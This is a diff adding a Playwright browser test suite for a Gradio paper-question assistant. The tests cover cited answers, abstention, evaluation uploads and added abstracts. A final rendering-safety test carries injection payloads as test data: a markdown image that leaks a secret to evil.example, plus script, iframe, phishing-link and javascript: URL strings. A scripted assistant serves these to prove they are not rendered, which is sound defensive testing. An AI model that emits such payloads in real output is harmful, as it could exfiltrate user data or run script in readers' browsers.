@@ -1,0 +1,284 @@
+"""The page in a real headless browser: Playwright driving Debian's chromium (.ci/run installs it).
+
+Every step waits for an element (never for "network idle": Gradio keeps a connection open, and never
+for a fixed time). Screenshots go to tests/artifacts/ (git-ignored) for a human to look at.
+"""
+
+from __future__ import annotations
+
+import json
+import socket
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, expect, sync_playwright
+
+from assistant import ui
+from assistant.config import Settings
+from assistant.types import Answer, Citation, Final, Passage, Paper, Status, TextDelta
+
+CHROMIUM = Path("/usr/bin/chromium")
+HERE = Path(__file__).resolve().parent
+SEEDS = HERE.parent / "seeds"
+ARTIFACTS = HERE / "artifacts"
+ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+        "--disable-component-update", "--disable-sync", "--no-first-run"]  # fmt: skip
+WAIT = 120_000  # ms: generous for a loaded 2-core machine, but bounded
+NTK = "What does the neural tangent kernel describe?"
+expect.set_options(timeout=WAIT)
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    assert CHROMIUM.exists(), "needs Debian's chromium: apt-get install -y chromium (never `playwright install`)"
+    ARTIFACTS.mkdir(exist_ok=True)
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
+        yield b
+        b.close()
+
+
+def serve(assistant: Any) -> tuple[Any, str]:
+    app = ui.build_app(assistant)
+    return app, ui.launch(app, host="127.0.0.1", port=free_port(), block=False)
+
+
+@pytest.fixture(scope="module")
+def shared_url(assistant: object) -> Iterator[str]:
+    app, url = serve(assistant)
+    yield url
+    app.close()
+
+
+def open_page(browser: Browser, url: str) -> tuple[Page, list[str]]:
+    """A fresh page on the app, and the list of every request that leaves the local server."""
+    page = browser.new_page(viewport={"width": 1400, "height": 1000})
+    page.set_default_timeout(WAIT)
+    outside: list[str] = []
+    local = url.rstrip("/")
+    page.on("request", lambda r: None if r.url.startswith((local, "data:", "blob:")) else outside.append(r.url))
+    page.goto(url, wait_until="load", timeout=WAIT)
+    page.locator("#aa-question textarea").wait_for()
+    return page, outside
+
+
+def ask(page: Page, question: str) -> None:
+    page.locator("#aa-question textarea").fill(question)
+    page.locator("#aa-ask").click()
+
+
+def upload(page: Page, component: str, path: Path) -> None:
+    """Choose a file the way a user does: the chooser only opens once the (lazily mounted) tab is live."""
+    with page.expect_file_chooser(timeout=WAIT) as chooser:
+        page.locator(component).get_by_role("button").filter(has_text="Click to Upload").click()
+    chooser.value.set_files(str(path))
+    page.locator(component).get_by_text(path.name).filter(visible=True).first.wait_for()
+
+
+def shot(page: Page, name: str, full_page: bool = True) -> None:
+    page.screenshot(path=str(ARTIFACTS / name), full_page=full_page)
+
+
+def test_chat_streams_a_cited_answer_and_links_to_the_quote(browser: Browser, shared_url: str, assistant: Any) -> None:
+    page, outside = open_page(browser, shared_url)
+    ask(page, NTK)
+    bubble = page.locator("#aa-chat .aa-answer:not(.aa-pending)").last
+    bubble.locator("a.aa-cite").first.wait_for()
+    card = page.locator("#aa-sources .aa-card").first
+    card.wait_for()
+    expect(page.locator("#aa-status")).to_contain_text("sources")
+    assert "score" in card.inner_text() and "Neural Tangent Kernel" in bubble.inner_text()
+    shot(page, "chat-answer.png")
+
+    link = bubble.locator("a.aa-cite").first
+    assert link.inner_text() == "[1]"
+    target = link.get_attribute("href")
+    link.click()
+    mark = page.locator(f"#aa-sources mark{target}")
+    expect(mark).to_be_in_viewport()
+    assert page.evaluate("location.hash") == target
+    assert mark.evaluate("m => m.matches(':target')") and mark.inner_text().strip()
+    shot(page, "chat-citation-clicked.png", full_page=False)
+
+    ask(page, "How do they prove it?")  # a follow-up uses the conversation
+    expect(page.locator("#aa-chat .aa-answer:not(.aa-pending)")).to_have_count(2)
+    page.locator("#aa-chat .aa-answer").nth(1).locator("a.aa-cite").first.wait_for()
+    assert page.locator("#aa-chat .aa-answer").first.locator("a.aa-cite").count() == 0  # retired: sources moved on
+    page.locator("#aa-settings").get_by_text("Settings").filter(visible=True).first.click()
+    page.get_by_text("fully offline").filter(visible=True).first.wait_for()
+    page.locator("#aa-retrieval-mode").get_by_text("bm25", exact=True).click()
+    shot(page, "chat-followup-settings.png")
+
+    page.locator("#aa-retry").click()  # the last question again, answered with bm25 now
+    expect(page.locator("#aa-status")).to_contain_text(assistant.settings_for(retrieval_mode="bm25").settings_hash())
+    expect(page.locator("#aa-sources")).to_contain_text("All 5 retrieved papers")
+    expect(page.locator("#aa-chat .aa-answer:not(.aa-pending)")).to_have_count(2)
+    page.locator("#aa-clear").click()
+    expect(page.locator("#aa-sources")).to_contain_text("The sources of an answer appear here")
+    expect(page.locator("#aa-chat .aa-answer")).to_have_count(0)
+    assert outside == [], outside
+    page.close()
+
+
+def test_abstention_and_errors_are_shown_apart(browser: Browser, shared_url: str) -> None:
+    page, outside = open_page(browser, shared_url)
+    too_long = "Why? " * 500
+    ask(page, too_long)
+    page.get_by_text("the limit is 2,000").filter(visible=True).first.wait_for()  # a Gradio error, not a traceback
+    shot(page, "chat-error.png", full_page=False)
+    assert page.get_by_text("Traceback").count() == 0
+    assert page.locator("#aa-question textarea").input_value().strip() == too_long.strip()  # kept for editing
+    expect(page.locator("#aa-chat .aa-answer, #aa-chat .aa-abstain")).to_have_count(0)
+    ask(page, "What is the best recipe for sourdough bread with rye flour?")
+    page.locator("#aa-chat .aa-abstain").wait_for()
+    page.locator("#aa-sources .aa-closest").first.wait_for()
+    expect(page.locator("#aa-status")).to_contain_text("Not answered")
+    shot(page, "chat-abstention.png")
+    assert outside == [], outside
+    page.close()
+
+
+def test_evaluate_tab_runs_an_uploaded_question_file(browser: Browser, shared_url: str, tmp_path: Path) -> None:
+    page, outside = open_page(browser, shared_url)
+    page.get_by_role("tab", name="Evaluate").click()
+    lines = (HERE / "questions.jsonl").read_text(encoding="utf-8").splitlines()
+    small = tmp_path / "three_questions.jsonl"
+    small.write_text("\n".join(lines[:3]) + "\n", encoding="utf-8")
+    upload(page, "#aa-qfile", small)
+    page.locator("#aa-eval").click()
+    expect(page.locator("#aa-eval-summary")).to_contain_text("3 questions")
+    page.locator("#aa-eval-retrieval").get_by_text("llamaindex-stock").filter(visible=True).first.wait_for()
+    page.locator("#aa-eval-answers").get_by_text("citation precision").filter(visible=True).first.wait_for()
+    page.locator("#aa-eval-files a[download='report.json']").wait_for()
+    plots = page.locator("#aa-eval-plots img")
+    expect(plots).to_have_count(2)
+    page.wait_for_function(  # both plots decoded and painted, not just present
+        "() => [...document.querySelectorAll('#aa-eval-plots img')].filter(i => i.complete && i.naturalWidth > 0)"
+        ".length === 2",
+        timeout=WAIT,
+    )
+    shot(page, "evaluate.png")
+    assert outside == [], outside
+    page.close()
+
+
+def test_added_abstract_is_searchable_in_papers(browser: Browser, store_copy: Path, tmp_path: Path) -> None:
+    from assistant.api import Assistant
+
+    app, url = serve(Assistant(Settings(store_dir=store_copy, seeds_dir=SEEDS)))
+    try:
+        upload_file = tmp_path / "zebra_abstracts.jsonl"
+        record = {
+            "title": "Zebra Transformers for Striped Sequence Modelling",
+            "abstract": "We introduce zebra transformers, which alternate attention and convolution in striped "
+            "layers. Zebra transformers match standard transformers on language modelling at lower cost.",
+            "authors": ["Ada Stripe", "Ben Hoof"],
+            "url": "https://example.org/zebra",
+        }
+        upload_file.write_text(json.dumps(record) + "\n" + "{not json\n", encoding="utf-8")
+
+        page, outside = open_page(browser, url)
+        page.get_by_role("tab", name="Add abstracts").click()
+        upload(page, "#aa-upload", upload_file)
+        page.locator("#aa-add").click()
+        report = page.locator("#aa-add-report")
+        expect(report).to_contain_text("1 new")
+        expect(report).to_contain_text("75 papers")
+        expect(report).to_contain_text("zebra_abstracts.jsonl:2")  # the bad line, by file and line
+        shot(page, "add-abstracts.png")
+
+        page.get_by_role("tab", name="Papers").click()
+        page.locator("#aa-paper-search textarea, #aa-paper-search input").first.fill("zebra")
+        expect(page.locator("#aa-paper-count")).to_contain_text("1 of 75 papers")
+        title = "Zebra Transformers for Striped Sequence Modelling"
+        cell = page.locator("#aa-papers").get_by_text(title).filter(visible=True).first
+        cell.click()
+        view = page.locator("#aa-abstract")
+        expect(view).to_contain_text("alternate attention and convolution")
+        assert view.locator("a[href='https://example.org/zebra']").count() == 1
+        shot(page, "papers-search.png")
+
+        page.get_by_role("tab", name="Chat").click()
+        ask(page, "What do zebra transformers alternate?")
+        page.locator("#aa-sources .aa-card").get_by_text("Zebra Transformers").filter(visible=True).first.wait_for()
+        assert outside == [], outside
+        page.close()
+    finally:
+        app.close()
+
+
+# -- rendering safety, end to end: a scripted assistant whose answer and abstract carry attacks ---------------
+ATTACK = (
+    "Zebras stripe [1]. ![leak](https://evil.example/pixel.png?q=SECRET) <img src=https://evil.example/i.png> "
+    "<script>document.title='owned'</script> [click me](https://evil.example/phish) https://evil.example/bare "
+    "www.evil.example <a href=\"https://evil.example/raw\">raw link</a> **bold** $x^2$ [9]."
+)
+EVIL_PAPER = Paper(
+    id="evil0000",
+    title="Stripes <img src=https://evil.example/t.png>",
+    abstract="Zebras stripe. ![leak](https://evil.example/abstract.png) <iframe src=https://evil.example/f></iframe>",
+    authors=["Mallory <b>M</b>"],
+    url="https://example.org/stripes",
+)
+TRAP = Paper(id="trap0000", title="Trap", abstract="A javascript link.", url="javascript:alert(1)")
+
+
+class ScriptedAssistant:
+    """Just the Assistant surface the page uses, answering every question with ATTACK."""
+
+    settings = Settings()
+
+    def papers(self) -> list[Paper]:
+        return [EVIL_PAPER, TRAP]
+
+    def stream(self, question: str, history: object = None, **overrides: object) -> Iterator[object]:
+        yield Status(stage="retrieving")
+        yield Status(stage="writing")
+        for i in range(0, len(ATTACK), 40):  # streamed in pieces, as a model would
+            yield TextDelta(text=ATTACK[i : i + 40])
+        answer = Answer(
+            question=question,
+            text=ATTACK,
+            citations=[
+                Citation(n=1, paper_id=EVIL_PAPER.id, title=EVIL_PAPER.title, quote="Zebras stripe."),
+                Citation(n=2, paper_id=TRAP.id, title=TRAP.title, quote="A javascript link."),
+            ],
+            abstained=False,
+            settings_hash="scripted",
+            passages=[Passage(paper_id=p.id, title=p.title, score=0.9, text=p.abstract) for p in (EVIL_PAPER, TRAP)],
+        )
+        yield Final(answer=answer)
+
+
+def test_model_and_abstract_text_cannot_inject_markup(browser: Browser) -> None:
+    app, url = serve(ScriptedAssistant())
+    try:
+        page, outside = open_page(browser, url)
+        ask(page, "Why do zebras have stripes?")
+        expect(page.locator("#aa-status")).to_contain_text("scripted")
+        bubble = page.locator("#aa-chat .aa-answer").last
+        expect(bubble).to_contain_text("![leak](https://evil.example/pixel.png?q=SECRET)")  # shown as text
+        expect(bubble).to_contain_text("<script>document.title='owned'</script>")
+        expect(bubble).to_contain_text("**bold** $x^2$ [9]")
+        page.locator("#aa-sources .aa-card").nth(1).wait_for()
+        shot(page, "safety.png")
+
+        for where in ("#aa-chat", "#aa-sources"):
+            assert page.locator(f"{where} img, {where} iframe, {where} script").count() == 0, where
+        chat_links = page.locator("#aa-chat a").evaluate_all("as => as.map(a => a.getAttribute('href'))")
+        assert chat_links == ["#src-1-1"], chat_links  # only the resolved marker; [9] resolves to nothing
+        source_links = page.locator("#aa-sources a").evaluate_all("as => as.map(a => a.getAttribute('href'))")
+        assert source_links == ["https://example.org/stripes"], source_links  # never javascript:
+        assert page.title() == "Abstract Assistant"
+        assert outside == [], outside
+        page.close()
+    finally:
+        app.close()
